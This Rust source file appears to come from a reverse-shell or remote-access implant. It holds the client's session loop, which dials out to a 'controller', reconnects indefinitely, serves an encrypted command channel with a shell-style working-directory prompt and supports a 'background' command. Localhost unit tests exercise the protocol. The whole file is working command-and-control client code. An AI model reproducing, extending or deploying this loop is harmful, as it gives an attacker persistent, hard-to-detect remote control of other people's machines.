//! Session loop: connect to the controller, serve requests, reconnect.
//!
//! The client never listens and never exits on its own. It dials out,
//! serves one request/reply session over the encrypted channel, and on
//! any session end (peer close, `background`, transport failure) goes
//! back to dialing. Only the process shutdown flag stops the loop.

use std::env;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};

use crate::commands::{CommandRegistry, Reply};
use crate::config::Config;
use crate::connection::Connection;
use crate::crypto::ChannelCipher;

/// Why a session over one connection ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionEnd {
    /// The controller went away, either by closing the socket or by
    /// sending the empty teardown request.
    PeerClosed,
    /// The controller sent `background`: drop the connection but keep
    /// the process alive.
    Backgrounded,
}

/// The reverse client: configuration, cipher, and command table.
#[derive(Debug)]
pub struct Client {
    host: String,
    port: u16,
    retry_interval: Duration,
    cipher: Arc<ChannelCipher>,
    registry: CommandRegistry,
    shutdown: Arc<AtomicBool>,
}

impl Client {
    /// Build a client from resolved configuration.
    ///
    /// # Errors
    ///
    /// Returns an error if the configured channel key is rejected by
    /// the cipher. Nothing touches the network yet.
    pub fn new(config: &Config, shutdown: Arc<AtomicBool>) -> Result<Self> {
        let cipher = ChannelCipher::new(&config.key).context("invalid channel key")?;
        Ok(Self {
            host: config.host.clone(),
            port: config.port,
            retry_interval: config.retry_interval(),
            cipher: Arc::new(cipher),
            registry: CommandRegistry::new(),
            shutdown,
        })
    }

    /// Run until the shutdown flag is raised.
    ///
    /// Each iteration dials (with unbounded retry), serves the session
    /// to completion, and tears the socket down before dialing again.
    pub fn run(&self) {
        while !self.shutdown.load(Ordering::SeqCst) {
            let Some(mut connection) = Connection::connect_with_retry(
                &self.host,
                self.port,
                self.retry_interval,
                &self.cipher,
                &self.shutdown,
            ) else {
                break;
            };

            match self.serve(&mut connection) {
                Ok(SessionEnd::PeerClosed) => {
                    log::info!("controller session ended; reconnecting");
                }
                Ok(SessionEnd::Backgrounded) => {
                    log::info!("backgrounded by controller; reconnecting");
                }
                Err(e) if self.shutdown.load(Ordering::SeqCst) => {
                    log::debug!("session interrupted by shutdown: {e:#}");
                }
                Err(e) => {
                    log::warn!("session failed: {e:#}; reconnecting");
                }
            }
            connection.shutdown();
        }
        log::info!("shutting down");
    }

    /// Serve one connected session to completion.
    ///
    /// Protocol order per session: discard the controller's banner,
    /// then loop prompt, request, reply. An empty request and a closed
    /// connection both end the session with a best-effort empty
    /// acknowledgement.
    ///
    /// # Errors
    ///
    /// Returns an error on transport failure: socket I/O, a frame that
    /// fails integrity, or shutdown raised mid-read. The caller drops
    /// the connection and reconnects.
    pub fn serve(&self, connection: &mut Connection) -> Result<SessionEnd> {
        // The banner is display text for the controller operator, not
        // an instruction.
        if connection.receive()?.is_none() {
            return Ok(SessionEnd::PeerClosed);
        }

        loop {
            connection.send(prompt().as_bytes())?;

            let request = match connection.receive()? {
                Some(request) => request,
                None => {
                    log::info!("controller closed the connection");
                    acknowledge_close(connection);
                    return Ok(SessionEnd::PeerClosed);
                }
            };
            if request.is_empty() {
                log::info!("controller requested teardown");
                acknowledge_close(connection);
                return Ok(SessionEnd::PeerClosed);
            }

            let line = String::from_utf8_lossy(&request).into_owned();
            log::debug!("request: {line}");
            match self.registry.dispatch(connection, &line)? {
                Reply::Data(payload) => connection.send(&payload)?,
                Reply::Background => return Ok(SessionEnd::Backgrounded),
            }
        }
    }
}

/// Prompt sent before each request: working directory plus `> `, so
/// the controller side reads like a local shell.
fn prompt() -> String {
    let cwd = env::current_dir()
        .map(|path| path.display().to_string())
        .unwrap_or_else(|_| String::from("?"));
    format!("{cwd}> ")
}

/// Final empty frame acknowledging teardown. Best effort only; the
/// peer may already be gone.
fn acknowledge_close(connection: &mut Connection) {
    if let Err(e) = connection.send(&[]) {
        log::debug!("close acknowledgement not delivered: {e:#}");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::constants::DEFAULT_CHANNEL_KEY;
    use crate::framing::{encode_frame, FrameDecoder};
    use std::io::{Read, Write};
    use std::net::{TcpListener, TcpStream};
    use std::thread;

    /// Scripted controller end of one accepted connection.
    struct Controller {
        stream: TcpStream,
        decoder: FrameDecoder,
        cipher: ChannelCipher,
    }

    impl Controller {
        fn accept(listener: &TcpListener) -> Self {
            let (mut stream, _) = listener.accept().unwrap();
            let mut buf = [0u8; 256];
            let n = stream.read(&mut buf).unwrap();
            assert!(n > 0, "expected hostname handshake");
            Self {
                stream,
                decoder: FrameDecoder::new(),
                cipher: ChannelCipher::new(DEFAULT_CHANNEL_KEY).unwrap(),
            }
        }

        fn send(&mut self, payload: &[u8]) {
            let token = self.cipher.encrypt(payload);
            self.stream
                .write_all(&encode_frame(token.as_bytes()).unwrap())
                .unwrap();
        }

        fn read_plaintext(&mut self) -> Option<Vec<u8>> {
            let mut buf = [0u8; 4096];
            loop {
                if let Some(frame) = self.decoder.next_frame() {
                    let token = std::str::from_utf8(&frame).unwrap();
                    return Some(self.cipher.decrypt(token).unwrap());
                }
                match self.stream.read(&mut buf) {
                    Ok(0) => return None,
                    Ok(n) => self.decoder.feed(&buf[..n]),
                    Err(e) => panic!("controller read failed: {e}"),
                }
            }
        }

        fn read_text(&mut self) -> String {
            String::from_utf8(self.read_plaintext().expect("connection closed")).unwrap()
        }
    }

    fn test_client(port: u16) -> Client {
        let config = Config {
            host: String::from("127.0.0.1"),
            port,
            retry_interval_secs: 1,
            key: String::from(DEFAULT_CHANNEL_KEY),
        };
        Client::new(&config, Arc::new(AtomicBool::new(false))).unwrap()
    }

    fn serve_session(script: impl FnOnce(&mut Controller) + Send + 'static) -> Result<SessionEnd> {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let local_port = listener.local_addr().unwrap().port();

        let handle = thread::spawn(move || {
            let mut controller = Controller::accept(&listener);
            script(&mut controller);
        });

        let client = test_client(local_port);
        let mut connection = Connection::connect(
            "127.0.0.1",
            local_port,
            Arc::new(ChannelCipher::new(DEFAULT_CHANNEL_KEY).unwrap()),
            Arc::new(AtomicBool::new(false)),
        )
        .unwrap();
        let result = client.serve(&mut connection);
        handle.join().unwrap();
        result
    }

    #[test]
    fn test_serve_ends_when_closed_before_banner() {
        let end = serve_session(|controller| {
            drop(controller.stream.shutdown(std::net::Shutdown::Both));
        })
        .unwrap();
        assert_eq!(end, SessionEnd::PeerClosed);
    }

    #[test]
    fn test_serve_prompt_reply_cycle() {
        let end = serve_session(|controller| {
            controller.send(b"connected\n");

            let prompt = controller.read_text();
            assert!(prompt.ends_with("> "), "unexpected prompt: {prompt}");

            controller.send(b"hello");
            assert_eq!(controller.read_text(), "hello");

            // Next prompt proves the session survived the request.
            let prompt = controller.read_text();
            assert!(prompt.ends_with("> "));

            // Empty request tears the session down.
            controller.send(b"");
            assert_eq!(controller.read_plaintext(), Some(Vec::new()));
        })
        .unwrap();
        assert_eq!(end, SessionEnd::PeerClosed);
    }

    #[test]
    fn test_serve_backgrounds_on_request() {
        let end = serve_session(|controller| {
            controller.send(b"connected\n");
            let _prompt = controller.read_text();
            controller.send(b"background");
        })
        .unwrap();
        assert_eq!(end, SessionEnd::Backgrounded);
    }

    #[test]
    fn test_serve_acknowledges_peer_close() {
        let end = serve_session(|controller| {
            controller.send(b"connected\n");
            let _prompt = controller.read_text();
            controller
                .stream
                .shutdown(std::net::Shutdown::Write)
                .unwrap();
            // The teardown acknowledgement still arrives on our read half.
            assert_eq!(controller.read_plaintext(), Some(Vec::new()));
        })
        .unwrap();
        assert_eq!(end, SessionEnd::PeerClosed);
    }

    #[test]
    fn test_client_rejects_bad_key() {
        let config = Config {
            key: String::from("not a key"),
            ..Config::default()
        };
        assert!(Client::new(&config, Arc::new(AtomicBool::new(false))).is_err());
    }
}
